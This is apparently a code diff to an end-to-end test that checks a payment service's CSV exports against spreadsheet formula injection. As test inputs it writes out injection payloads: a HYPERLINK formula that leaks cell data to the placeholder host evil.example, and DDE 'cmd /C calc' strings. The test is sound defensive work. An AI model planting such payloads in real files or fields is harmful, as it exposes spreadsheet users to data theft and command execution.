@@ -3,8 +3,8 @@ import { createTestDatabase } from '../support/db';
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { createMerchant, onrampCli, startStack, type Stack } from '../support/stack';
-import { request } from '../support/http';
+import { createMerchant, eventually, onrampCli, startStack, type Stack } from '../support/stack';
+import { graphql, request } from '../support/http';
 import { createBalanceOnramp, randomAddress, settledBalanceDeposit } from '../support/onramps';
 import { sql } from '../support/sql';
 import { lagosDay } from '../../src/domain/lagos-day';
@@ -109,42 +109,73 @@ describe('reconciliation exports end to end', () => {
   });
 
   it('writes no cell a spreadsheet would run: text defused, amounts still numbers', async () => {
+    const { api_key: formulaKey } = await createMerchant(databaseUrl, 'Formula Co');
+    const onramp = await createBalanceOnramp(stack.url, formulaKey);
     // A payer (through the sandbox bank, as a bank would send it) names himself a formula.
-    const onramp = await createBalanceOnramp(stack.url, key);
     const payerName = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
-    const simulated = await request(stack.url, 'POST', '/v1/sandbox/deposits', {
-      key,
-      body: {
-        account_number: onramp.virtual_account.account_number,
-        amount_ngn: '2500.00',
-        bank_reference: `@SUM(1+1)*cmd|' /C calc'!A${Date.now()}`,
-        payer: { account_name: payerName, account_number: '0123456789', bank_code: '058' },
-      },
-    });
-    expect(simulated.status).toBe(201);
-    const depositId = simulated.body.deposit_id as string;
+    const transfer = async (reference: string) => {
+      const answer = await request(stack.url, 'POST', '/v1/sandbox/deposits', {
+        key: formulaKey,
+        body: {
+          account_number: onramp.virtual_account.account_number,
+          amount_ngn: '2500.00',
+          bank_reference: reference,
+          payer: { account_name: payerName, account_number: '0123456789', bank_code: '058' },
+        },
+      });
+      expect([answer.status, answer.body.error]).toEqual([201, undefined]);
+      return answer.body.deposit_id as string;
+    };
+    const scenario = (fxFailure: string) =>
+      graphql(
+        stack.url,
+        formulaKey,
+        'mutation($i: SandboxScenarioInput!) { setSandboxScenario(input: $i) { fxFailure } }',
+        { i: { fxFailure } },
+      );
+    const statusOf = (id: string, status: string) =>
+      eventually(async () => {
+        const read = await request(stack.url, 'GET', `/v1/deposits/${id}`, { key: formulaKey });
+        return read.body.status === status ? true : undefined;
+      });
+    await scenario('TEMPORARY');
+    const flagged = await transfer(`@SUM(1+1)*cmd|'/C_calc'!A${Date.now()}`);
+    await statusOf(flagged, 'FLAGGED');
+    await scenario('PERMANENT');
+    const failed = await transfer(`-2+3-${Date.now()}`);
+    await statusOf(failed, 'FAILED');
+    await scenario('NONE');
     // Reasons and account digits as a provider, a chain or a deposit stored before this
     // version could leave them (no API writes them): the export must defuse them too.
     await sql(
       databaseUrl,
-      `update deposits set flag_reason = $2, failure_reason = $3, sender_account = $4
-        where id = $1`,
-      [depositId, "=cmd|' /C calc'!A0", '+1+2', '123456-1+2'],
+      'update deposits set flag_reason = $2, sender_account = $3 where id = $1',
+      [flagged, "=cmd|' /C calc'!A0", '123456-1+2'],
     );
-    const exported = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`);
+    await sql(databaseUrl, 'update deposits set failure_reason = $2 where id = $1', [
+      failed,
+      '+1+2',
+    ]);
+
+    const exported = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`, formulaKey);
     expect(exported.status).toBe(200);
-    const row = rows(exported.text).find((r) => r.deposit_id === depositId)!;
-    expect(row).toMatchObject({
+    const byId = new Map(rows(exported.text).map((r) => [r.deposit_id, r]));
+    expect(byId.get(flagged)).toMatchObject({
       payer_account_name: `'${payerName}`,
       bank_reference: expect.stringMatching(/^'@SUM/),
       flag_reason: "'=cmd|' /C calc'!A0",
-      failure_reason: "'+1+2",
       payer_account_number_last4: "'-1+2",
-      // Amounts stay numbers.
       amount_ngn: '2500.00',
     });
-    // No cell of either report starts like a formula, except the numbers: exact decimals.
-    const ledger = await get(`/v1/reports/ledger.csv?from=${today}&to=${today}`);
+    expect(byId.get(failed)).toMatchObject({
+      bank_reference: expect.stringMatching(/^'-2\+3-/),
+      failure_reason: "'+1+2",
+      payer_account_number_last4: '6789',
+      amount_ngn: '2500.00',
+    });
+    // No cell of either report starts like a formula, except amounts: exact negative decimals.
+    const ledger = await get(`/v1/reports/ledger.csv?from=${today}&to=${today}`, formulaKey);
+    expect(ledger.status).toBe(200);
     for (const text of [exported.text, ledger.text]) {
       for (const record of parse(text) as string[][]) {
         for (const cell of record) {
@@ -152,9 +183,6 @@ describe('reconciliation exports end to end', () => {
         }
       }
     }
-    const debits = rows(ledger.text).filter((p) => p.net.startsWith('-'));
-    expect(debits.length).toBeGreaterThan(0);
-    for (const debit of debits) expect(debit.net).toMatch(/^-[0-9]+\.[0-9]{6}$/);
   });
 
   it('refuses what it should, in the error shape', async () => {
